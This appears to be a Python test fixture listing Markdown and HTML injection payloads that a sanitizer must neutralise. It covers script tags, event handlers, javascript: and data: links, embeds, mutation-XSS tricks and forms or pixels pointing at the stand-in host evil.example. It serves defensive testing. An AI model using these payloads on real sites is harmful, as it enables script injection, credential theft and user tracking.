"""What a hostile guide may hold: each is Markdown that must lose its teeth and leave the text around it readable.

"keep" is text that must be seen as often as it is written; alert stands for any script, evil.example for any foreign
host. Read by the tests of rendering and of importing.
"""

from __future__ import annotations

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title></textarea></style></script><script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "`code` <script>alert(1)</script> `code`",
    "> quoted\n> <script>alert(1)</script>",
    "| cell |\n|---|\n| <script>alert(1)</script> |",
    "```\nfenced\n```\n<script>alert(1)</script>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    '!!! note "<script>alert(1)</script>"\n    keep',
    '??? tip "<img src=x onerror=alert(1)>"\n    keep',
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<details open ontoggle=alert(1)><summary>more</summary>keep</details>",
    "<p onmouseover=alert(1) onpointerrawupdate=alert(2)>keep</p>",
    "<input autofocus onfocus=alert(1) type=text>",
    "<audio src onerror=alert(1)></audio><video><source onerror=alert(1)></video>",
    "<svg/onload=alert(1)>",
    "<marquee onstart=alert(1)>keep</marquee>",
    "keep\n{: onclick=alert(1) style=color:red #login name=login }",
    "[keep](https://example.com){: onclick=alert(1) target=_blank }",
    '![x](x.png"onerror="alert\\(1\\))',
    '![x" onerror="alert(1)](x.png "t\' onload=alert(1)")',
)
SCHEMES = (
    "[keep](javascript:alert(1))",
    "[keep](JaVaScRiPt:alert(1))",
    "[keep](  javascript:alert(1))",
    '<a href="java\tscript:alert(1)">keep</a>',
    '<a href="java&#10;script:alert(1)">keep</a>',
    '<a href="&#106;&#97;&#118;&#97;script&colon;alert(1)">keep</a>',
    '<a href="\x01javascript:alert(1)">keep</a>',
    "[keep](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[keep](vbscript:msgbox(1))",
    "[keep](file:///etc/passwd) [keep](blob:x) [keep](intent://x) [keep](ms-msdt:x)",
    "<javascript:alert(1)>",
    "[keep][id]\n\n[id]: javascript:alert(1)",
    '<a xlink:href="javascript:alert(1)" href="?x=javascript:alert(1)">keep</a>',
    "<math href=javascript:alert(1)>keep</math>",
)
EMBEDS = (
    "<iframe src=//evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=//evil.example/x.swf></object><embed src=//evil.example/x.swf>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>keep</text></a></svg>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<link rel="stylesheet" href="//evil.example/x.css"><link rel=prefetch href=//evil.example>',
    '<base href="//evil.example/">',
    "<portal src=//evil.example></portal><frameset><frame src=//evil.example></frameset>",
    "<template><img src=x onerror=alert(1)></template>",
)
FORMS = (
    "<form action=//evil.example method=post><input name=password type=password><button>Go</button></form>",
    "<button form=rate formaction=//evil.example>Go</button>",
    "<input type=image src=//evil.example/x.png formaction=//evil.example>",
    "<isindex action=javascript:alert(1) type=image><textarea name=rating>4</textarea><select><option>1</select>",
)
HTMX = (
    "<div hx-get=//evil.example hx-trigger=load>keep</div>",
    '<div hx-on:click="alert(1)" hx-on--load="alert(1)" hx-on="click: alert(1)">keep</div>',
    "<p data-hx-post=/undo data-hx-trigger=revealed data-hx-vals='js:{a:alert(1)}'>keep</p>",
    "keep\n{: hx-post=/undo hx-trigger=load hx-swap=outerHTML hx-target=body }",
)
STYLES = (
    "<style>body{background:url(//evil.example/pixel)}</style>",
    '<p style="background:url(//evil.example/pixel);position:fixed;inset:0">keep</p>',
    "<div class='modal-is-open hx-request container secondary' role=alert tabindex=1>keep</div>",
    "<table background=//evil.example/pixel bgcolor=red><tr><td background=//evil.example/pixel>keep</td></tr></table>",
    "<font color=red size=7>keep</font><center>keep</center><blink>keep</blink>",
)
REQUESTS = (
    "![keep](https://evil.example/pixel.gif)",
    "![keep](//evil.example/pixel.gif)",
    "<img srcset='//evil.example/a 1x' lowsrc=//evil.example/b src=//evil.example/c>",
    "<picture><source srcset=//evil.example/a><img src=/review alt=keep></picture>",
    "![keep](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "<img src=/media/../review alt=keep> <img src='\\\\evil.example\\x' alt=keep>",
    "[keep](//evil.example) [keep](/\\evil.example) [keep](\\\\evil.example) [keep](/undo)",
    "<a ping=//evil.example href=https://example.com target=_top rel=opener download>keep</a>",
    "<video poster=//evil.example/x></video><body background=//evil.example/x>",
)
CLOBBERS = (
    "<p id=main name=main>keep</p><img name=getElementById><a id=htmx href=https://example.com>keep</a>",
    "# keep {#answer .again accesskey=x contenteditable }",
    "</main></body></html><main id=main>keep",
    "</div></div></div></section></article>keep",
)
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a title='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<p title='&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>keep</p>",
    "<img alt='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;' src=x>",
    "<a><table><td><a href=javascript:alert(1)>keep</a></td></table></a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "<<img src=x onerror=alert(1)>\n<img src=x onerror=alert(1)//",
    "<im\x00g src=x onerror=alert(1)> <b/><i\x0conclick=alert(1)>keep",
    "&lt;script&gt;alert(1)&lt;/script&gt; \\<script>alert(1)\\</script>",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 <b onclick=alert(1)>keep</b>",
)

PAYLOADS = (
    *SCRIPTS, *HANDLERS, *SCHEMES, *EMBEDS, *FORMS, *HTMX, *STYLES, *REQUESTS, *CLOBBERS, *MUTATIONS,
)  # fmt: skip
